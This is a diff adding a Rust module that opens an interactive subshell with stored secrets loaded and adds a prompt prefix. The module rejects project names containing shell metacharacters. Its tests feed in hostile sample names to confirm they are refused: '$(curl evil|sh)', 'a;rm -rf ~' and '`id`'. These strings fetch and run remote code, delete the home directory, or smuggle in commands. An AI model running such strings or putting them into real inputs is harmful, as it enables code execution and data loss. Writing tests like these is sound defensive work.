@@ -0,0 +1,176 @@
+//! Interactive subshell with secrets loaded
+
+use anyhow::{Context, Result};
+use colored::Colorize;
+use std::path::Path;
+use std::process::Command;
+
+use crate::cli::hook::{fish_quote, posix_quote};
+use crate::cli::{check_env_policy, open_store};
+use crate::ui;
+
+/// Set inside a `tinysecrets shell` so nested shells can be detected
+const SHELL_MARKER_ENV_VAR: &str = "TINYSECRETS_SHELL";
+
+/// Characters shells act on when they expand a prompt (`$(...)`, `%`-escapes
+/// in zsh, `!` history in bash), which a project name has no business holding
+const PROMPT_METACHARACTERS: &[char] = &[
+    '$', '`', '\\', '"', '\'', ';', '&', '|', '<', '>', '(', ')', '{', '}', '[', ']', '*', '?',
+    '!', '~', '#', '%', '^',
+];
+
+pub fn run(project: &str, environment: &str) -> Result<()> {
+    if let Ok(active) = std::env::var(SHELL_MARKER_ENV_VAR) {
+        anyhow::bail!(
+            "Already inside a tinysecrets shell for {}. Type `exit` to leave it first.",
+            active
+        );
+    }
+
+    let store = open_store()?;
+    let secrets = store.get_all(project, environment)?;
+    drop(store);
+    check_env_policy(secrets.iter().map(|(k, _)| k.as_str()))?;
+
+    let shell = std::env::var("SHELL").unwrap_or_else(|_| "/bin/sh".to_string());
+    let shell_name = Path::new(&shell)
+        .file_name()
+        .map(|n| n.to_string_lossy().to_string())
+        .unwrap_or_default();
+    // Project and environment can come from a cloned repo's .tinysecrets.toml
+    let label = prompt_label(project, environment)?;
+    let prompt_prefix = format!("(ts:{}) ", label);
+
+    // rc files only contain the prompt tweak - secrets are passed via the environment
+    let rc_dir = tempfile::Builder::new()
+        .prefix("tinysecrets-shell-")
+        .tempdir()
+        .context("Failed to create temp directory")?;
+
+    let mut cmd = Command::new(&shell);
+    match shell_name.as_str() {
+        "bash" => {
+            let rc = rc_dir.path().join("bashrc");
+            std::fs::write(&rc, bash_rc(&prompt_prefix))?;
+            cmd.arg("--rcfile").arg(&rc).arg("-i");
+        }
+        "zsh" => {
+            let zdotdir = std::env::var("ZDOTDIR")
+                .ok()
+                .or_else(|| dirs::home_dir().map(|h| h.display().to_string()))
+                .unwrap_or_default();
+            std::fs::write(
+                rc_dir.path().join(".zshrc"),
+                zsh_rc(&zdotdir, &prompt_prefix),
+            )?;
+            cmd.env("ZDOTDIR", rc_dir.path());
+        }
+        "fish" => {
+            cmd.arg("--init-command").arg(fish_init(&prompt_prefix));
+        }
+        _ => {
+            let ps1 = std::env::var("PS1").unwrap_or_else(|_| "$ ".to_string());
+            cmd.env("PS1", format!("{}{}", prompt_prefix, ps1));
+        }
+    }
+
+    for (key, value) in secrets.iter() {
+        cmd.env(key, value);
+    }
+    cmd.env(SHELL_MARKER_ENV_VAR, &label);
+
+    eprintln!(
+        "{} Loaded {} secrets for {}/{} into {} (type {} to leave)",
+        ui::ok(),
+        secrets.len().to_string().bold(),
+        project.cyan(),
+        environment.yellow(),
+        shell_name,
+        "exit".cyan()
+    );
+
+    let status = cmd
+        .status()
+        .context(format!("Failed to start shell: {}", shell))?;
+
+    drop(rc_dir);
+    eprintln!("{} Left tinysecrets shell for {}", ui::note(), label);
+
+    std::process::exit(status.code().unwrap_or(1));
+}
+
+/// `project/environment` for the prompt, refused if a shell would interpret
+/// any of it when drawing the prompt
+fn prompt_label(project: &str, environment: &str) -> Result<String> {
+    let label = format!("{}/{}", project, environment);
+    if let Some(c) = label
+        .chars()
+        .find(|c| PROMPT_METACHARACTERS.contains(c) || c.is_control())
+    {
+        anyhow::bail!(
+            "Refusing to start a shell for {:?}: {:?} would be interpreted in the prompt. \
+             Rename the project or environment.",
+            label,
+            c
+        );
+    }
+    Ok(label)
+}
+
+fn bash_rc(prompt_prefix: &str) -> String {
+    format!(
+        "[ -f ~/.bashrc ] && . ~/.bashrc\nPS1={}\"$PS1\"\n",
+        posix_quote(prompt_prefix)
+    )
+}
+
+fn zsh_rc(zdotdir: &str, prompt_prefix: &str) -> String {
+    format!(
+        "ZDOTDIR={}\n[ -f \"$ZDOTDIR/.zshrc\" ] && . \"$ZDOTDIR/.zshrc\"\nPROMPT={}\"$PROMPT\"\n",
+        posix_quote(zdotdir),
+        posix_quote(prompt_prefix)
+    )
+}
+
+fn fish_init(prompt_prefix: &str) -> String {
+    format!(
+        "functions -c fish_prompt __tinysecrets_prompt; function fish_prompt; echo -n {}; __tinysecrets_prompt; end",
+        fish_quote(prompt_prefix)
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_hostile_project_name() {
+        for project in [
+            "$(curl evil|sh)",
+            "`id`",
+            "a;rm -rf ~",
+            "x'y",
+            "%F{red}",
+            "a\nb",
+        ] {
+            assert!(prompt_label(project, "prod").is_err(), "{:?}", project);
+        }
+        assert!(prompt_label("api", "$(id)").is_err());
+        assert_eq!(
+            prompt_label("acme-api", "host-mac.local").unwrap(),
+            "acme-api/host-mac.local"
+        );
+    }
+
+    #[test]
+    fn test_prompt_is_quoted() {
+        assert_eq!(
+            bash_rc("(ts:api/prod) "),
+            "[ -f ~/.bashrc ] && . ~/.bashrc\nPS1='(ts:api/prod) '\"$PS1\"\n"
+        );
+        assert!(
+            zsh_rc("/home/o'neil", "(ts:api/prod) ").starts_with("ZDOTDIR='/home/o'\\''neil'\n")
+        );
+        assert!(fish_init("(ts:api/prod) ").contains("echo -n '(ts:api/prod) ';"));
+    }
+}